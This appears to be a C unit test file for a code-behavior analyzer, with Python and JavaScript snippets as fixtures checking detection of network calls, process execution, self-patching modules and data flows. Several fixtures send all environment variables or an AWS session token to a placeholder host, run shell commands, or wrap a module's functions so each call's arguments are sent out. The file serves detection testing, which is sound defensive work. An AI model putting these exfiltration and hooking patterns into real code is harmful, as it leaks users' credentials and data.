/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_callback_test.c - functions that are given as values, and put in the place of others.
 */
#include "behavior_case.h"

#define URLOPEN "from urllib.request import urlopen\n"

static const struct behavior_case python[] = {
    { URLOPEN "def f(pool):\n    pool.submit(urlopen, 'https://a.invalid', b'x')\n",
      "capability network urlopen https://a.invalid call", NULL },
    { URLOPEN "from concurrent.futures import ThreadPoolExecutor\nimport os\n"
              "with ThreadPoolExecutor() as p:\n"
              "    p.submit(urlopen, 'https://a.invalid', str(dict(os.environ)).encode())\n",
      "capability network urlopen https://a.invalid import\nflow env-all network", NULL },
    { URLOPEN "import os, threading\nthreading.Thread(target=urlopen, "
              "args=('https://a.invalid/' + os.environ['AWS_SESSION_TOKEN'],)).start()\n",
      "capability network urlopen https://a.invalid\nflow credentials network", NULL },
    { URLOPEN "import threading\nthreading.Timer(5, urlopen, ['https://a.invalid']).start()\n",
      "capability network urlopen https://a.invalid", NULL },
    { URLOPEN "def f(loop):\n    loop.call_soon(urlopen, 'https://a.invalid')\n"
              "    loop.run_in_executor(None, urlopen, 'https://b.invalid')\n",
      "capability network https://a.invalid\ncapability network https://b.invalid", NULL },
    { URLOPEN "import functools, os\nf = functools.partial(urlopen, 'https://a.invalid')\n"
              "f(data=os.environ['AWS_SESSION_TOKEN'])\n",
      "capability network urlopen https://a.invalid\nflow credentials network", NULL },
    { URLOPEN "import os\nlist(map(urlopen, ['https://a.invalid/' + v for v in "
              "os.environ.values()]))\n",
      "flow env-all network", NULL },
    { "import os, sched\nsched.scheduler().enter(0, 1, os.system, ('id',))\n",
      "capability process os.system id", NULL },
    { "import boto3\ns3 = boto3.client('s3')\ndef f(pool, x):\n"
      "    pool.submit(s3.put_object, Bucket='reports', Key='k', Body=x)\n",
      "aws-call s3 PutObject\ndestination Bucket reports", NULL },
    { "from .api import send\nimport os\ndef f(pool):\n    pool.submit(send, dict(os.environ))\n",
      "flow env-all function .api.send", NULL },
    { "import os\ndef go(a, b):\n    os.system(b)\ndef f(pool):\n    pool.submit(go, 'a', 'id')\n",
      "capability process os.system id", NULL },
    { "import subprocess\ndef f(x):\n    return isinstance(x, subprocess.Popen)\n", NULL,
      "capability" },
    { "import functools\nfrom subprocess import run\n@functools.wraps(run)\ndef f(x):\n"
      "    return x\n",
      NULL, "capability process" },
};

static const struct behavior_case javascript[] = {
    { "['https://a.invalid'].forEach(fetch);", "capability network fetch https://a.invalid", NULL },
    { "setTimeout(fetch, 0, 'https://a.invalid');", "capability network fetch https://a.invalid",
      NULL },
    { "const { exec } = require('child_process'); queueMicrotask(exec.bind(null, 'id'));",
      "capability process child_process.exec id", NULL },
    { "Promise.resolve('https://a.invalid').then(fetch);", "capability network fetch", NULL },
    { "Object.values(process.env).map((v) => 'https://a.invalid/' + v).forEach(fetch);",
      "flow env-all network", NULL },
    { "function go(u) { fetch(u); } setTimeout(go, 5, 'https://a.invalid');"
      "go.call(null, 'https://b.invalid'); go.apply(null, ['https://c.invalid']);",
      "capability network https://a.invalid\ncapability network https://b.invalid\n"
      "capability network https://c.invalid",
      NULL },
    { "const net = require('net'), util = require('util'); function S() {}"
      "util.inherits(S, net.Socket);",
      NULL, "capability" },
    { "function each(list, f) { list.forEach(f); } each([1], (x) => x);", NULL, "capability" },
};

#define WRAP                                                                                       \
    URLOPEN "def w(f):\n    def inner(*a):\n        urlopen('https://a.invalid', str(a))\n"        \
            "        return f(*a)\n    return inner\n"

/* A module's own functions, each in the place of itself. */
static const struct behavior_case own_python[] = {
    { WRAP
      "for n, f in list(globals().items()):\n    if callable(f):\n        globals()[n] = w(f)\n",
      "capability patch-own globals() import", NULL },
    { WRAP "import sys\nme = sys.modules[__name__]\nfor n in dir(me):\n"
           "    setattr(me, n, w(getattr(me, n)))\n",
      "capability patch-own sys.modules[__name__] import", "hidden-name" },
    { URLOPEN "class W:\n    def __init__(self, f):\n        self.f = f\n"
              "    def __call__(self, *a):\n        urlopen('https://a.invalid', str(a))\n"
              "globals().update({k: W(v) for k, v in globals().items()})\n",
      "capability patch-own globals() import", NULL },
    { WRAP "class C:\n    def go(self, x):\n        return x\n"
           "for n, f in vars(C).items():\n    setattr(C, n, w(f))\n",
      "capability patch-own class import", NULL },
    { WRAP "for n in ('get', 'put'):\n    globals()[n] = w(n)\n", NULL, "patch-own" },
    { WRAP "for k, v in list(globals().items()):\n    globals()[k.upper()] = v\n", NULL,
      "patch-own" },
    { WRAP "import sys\ndef __getattr__(n):\n    return getattr(sys.modules[__name__], n)\n", NULL,
      "patch-own\nhidden-name" },
    { WRAP "@w\ndef go(x):\n    return x\n", NULL, "patch-own" },
};

#define WRAP_JS                                                                                    \
    "exports.a = (x) => x; function w(f) { return function (...a) {"                               \
    "fetch('https://a.invalid', { body: a }); return f.apply(this, a); }; }"

static const struct behavior_case own_javascript[] = {
    { WRAP_JS "for (const k of Object.keys(exports)) exports[k] = w(exports[k]);",
      "capability patch-own exports import", NULL },
    { WRAP_JS "Object.entries(exports).forEach(([k, f]) => { exports[k] = w(f); });",
      "capability patch-own exports import", NULL },
    { WRAP_JS "const o = {}; for (const k in module.exports) o[k] = w(module.exports[k]);"
              "module.exports = o;",
      "capability patch-own module.exports import", NULL },
    { "module.exports = new Proxy(module.exports, { get(t, k) { fetch('https://a.invalid/' + k);"
      "return t[k]; } });",
      "capability patch-own module.exports import", NULL },
    { WRAP_JS "for (const k of ['get', 'put']) exports[k] = w(k);", NULL, "patch-own" },
    { WRAP_JS "exports.b = w(exports.a); module.exports = { ...exports };", NULL, "patch-own" },
};

static void test_own(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, own_python, LW_COUNT(own_python));
    check_cases(LW_LANG_JAVASCRIPT, own_javascript, LW_COUNT(own_javascript));
}

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
}

static void test_javascript(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, javascript, LW_COUNT(javascript));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
                                        cmocka_unit_test(test_javascript),
                                        cmocka_unit_test(test_own) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
